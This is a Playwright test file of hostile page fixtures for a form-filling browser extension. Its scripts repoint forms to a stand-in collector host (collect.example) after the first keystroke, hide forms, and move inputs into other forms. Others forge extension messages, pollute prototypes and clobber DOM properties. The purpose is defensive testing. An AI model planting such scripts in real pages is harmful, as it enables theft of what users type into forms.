import { expect, type Page } from '@playwright/test';
import { form, HOST, type HostilePage, PAGE, page, trap } from './build-page';
import { hasSecret, valuesOf } from './look';

const script = (code: string): string => `<script>${code}</script>`;
const acting = (
  name: string,
  code: string,
  because: string,
  expect: HostilePage['expect'] = 'survives',
  extra = '',
  after?: HostilePage['after'],
): HostilePage => ({
  name: `script: ${name}`,
  url: PAGE,
  html: page(`${form(extra)}${script(code)}`),
  expect,
  because,
  ...(after && { after }),
});
/** When the page turns on the first word, that one word is all it may have. */
const onlyTheFirst = async (page: Page): Promise<void> => {
  const got = new Set((await valuesOf(page)).map(({ value }) => value.trim()).filter(hasSecret));
  expect([...got].length, [...got].join(', ')).toBeLessThanOrEqual(1);
};
const onFirst = (code: string): string =>
  `document.addEventListener('input', () => { const form = document.forms[0]; ${code} }, { once: true });`;

/** Pages whose scripts attack, or pull the form away. */
export const SCRIPTS: readonly HostilePage[] = [
  acting(
    'changes where the form goes on the first word',
    onFirst("form.action = 'https://collect.example/take';"),
    'what is not written yet is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  acting(
    'changes where the button goes on the first word',
    onFirst("document.querySelector('button').setAttribute('formaction', 'https://collect.example/take');"),
    'what is not written yet is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  acting(
    'changes the base address on the first word',
    onFirst(
      "const base = document.createElement('base'); base.href = 'https://collect.example/'; document.head.prepend(base);",
    ),
    'what is not written yet is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  acting(
    'fades the form away on the first word',
    onFirst("form.style.opacity = '0.01';"),
    'what cannot be seen any more is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  acting(
    'hides the form by a rule of its style sheet on the first word',
    onFirst("document.styleSheets[0].insertRule('form { opacity: 0 }');"),
    'what cannot be seen any more is not written any more',
    'survives',
    '<style>form { color: black }</style>',
    onlyTheFirst,
  ),
  acting(
    'talks to the extension',
    `setInterval(() => { for (const kind of ['fill', 'look', 'start-action', 'page-news', 'write', 'read']) { window.postMessage({ to: 'background', kind, data: { tabId: 1 } }, '*'); window.postMessage({ to: 'frame', kind }, '*'); document.dispatchEvent(new CustomEvent('rapid-responder', { detail: { kind } })); } }, 20);`,
    'messages of pages are not listened to',
    'filled',
  ),
  acting('takes the form away', onFirst('form.remove();'), 'what is gone is not written to'),
  acting(
    'goes to another page',
    onFirst(`location.href = 'https://${HOST}/elsewhere';`),
    'the rest is not written into the next page',
  ),
  acting(
    'builds the form anew',
    onFirst('form.outerHTML = form.outerHTML;'),
    'new controls are read and planned again',
  ),
  acting(
    'never stops changing',
    `setInterval(() => { document.body.append(document.createElement('i')); if (document.body.children.length > 400) document.querySelectorAll('i').forEach((i) => i.remove()); }, 1);`,
    'reading and writing are bounded',
    'filled',
  ),
  acting(
    'overwrites the DOM',
    `HTMLElement.prototype.getAttribute = () => 'x'; Document.prototype.querySelectorAll = () => []; Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'x', set() {} }); Element.prototype.getBoundingClientRect = () => ({ width: 0, height: 0 }); Array.prototype.map = () => [];`,
    'the extension sees the browser’s own DOM',
    'filled',
  ),
  acting(
    'pollutes Object.prototype',
    `Object.prototype.token = 'email'; Object.prototype.kind = 'type'; Object.prototype.value = 'x'; Object.prototype.ref = '0';`,
    'the page’s objects are not the extension’s',
    'filled',
  ),
  acting(
    'clicks everything',
    `setInterval(() => document.querySelectorAll('*').forEach((e) => { if (e.id.includes('rapid')) e.click(); }), 30);`,
    'only the person’s own clicks count',
    'filled',
  ),
  acting(
    'imitates the panel',
    `document.body.insertAdjacentHTML('beforeend', '<div id="rapid-responder" style="position:fixed;right:8px;bottom:8px;z-index:9"><button id="fill-me">Fill this form</button></div>'); document.getElementById('fill-me').click();`,
    'no button of a page fills anything',
    'filled',
  ),
  acting(
    'reveals a trap on the first word',
    `document.addEventListener('input', () => { const t = document.querySelector('.t'); if (t) t.style.display = 'none'; }, true);`,
    'each control is looked at again before it is written',
    'filled',
    trap('style="display:none"'),
  ),
  acting(
    'moves the boxes into another form on the first word',
    onFirst(
      `const other = document.createElement('form'); other.action = 'https://collect.example/take'; document.body.append(other); for (const one of form.querySelectorAll('.honest')) other.append(one);`,
    ),
    'a box that is sent elsewhere is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  acting(
    'ties the boxes to another form on the first word',
    onFirst(
      `const other = document.createElement('form'); other.action = 'https://collect.example/take'; other.id = 'other'; document.body.append(other); for (const one of form.querySelectorAll('.honest')) one.setAttribute('form', 'other');`,
    ),
    'a box that is sent elsewhere is not written any more',
    'survives',
    '',
    onlyTheFirst,
  ),
  {
    name: 'script: shadows the document’s properties',
    url: PAGE,
    html: page(
      `${form()}${[
        'title',
        'body',
        'documentElement',
        'activeElement',
        'baseURI',
        'createTreeWalker',
        'createElement',
        'head',
        'forms',
        'location',
        'defaultView',
        'readyState',
        'querySelectorAll',
        'getElementById',
        'elementFromPoint',
        'addEventListener',
      ]
        .map((name) => `<img name="${name}" alt="">`)
        .join('')}`,
    ),
    expect: 'filled',
    because: 'the document is read through the browser’s own methods',
  },
  {
    name: 'script: shadows the form’s methods',
    url: PAGE,
    html: page(
      form(
        'contains getBoundingClientRect checkVisibility compareDocumentPosition shadowRoot localName isConnected offsetWidth scrollHeight getRootNode closest matches getAttribute ownerDocument textContent nodeType tagName children dispatchEvent addEventListener click focus nodeName parentElement firstChild nextSibling'
          .split(' ')
          .map((name) => `<input type="hidden" name="${name}">`)
          .join(''),
      ),
    ),
    expect: 'filled',
    because: 'the form is read through the browser’s own methods',
  },
  acting(
    'shadows the form’s properties',
    '',
    'properties are read through the browser’s own methods',
    'filled',
    '<input type="hidden" name="action" value="x"><input type="hidden" name="id" value="y"><input type="hidden" name="elements"><input type="hidden" name="querySelectorAll"><input type="hidden" name="submit"><input type="hidden" name="attributes"><input type="hidden" name="parentNode">',
  ),
];
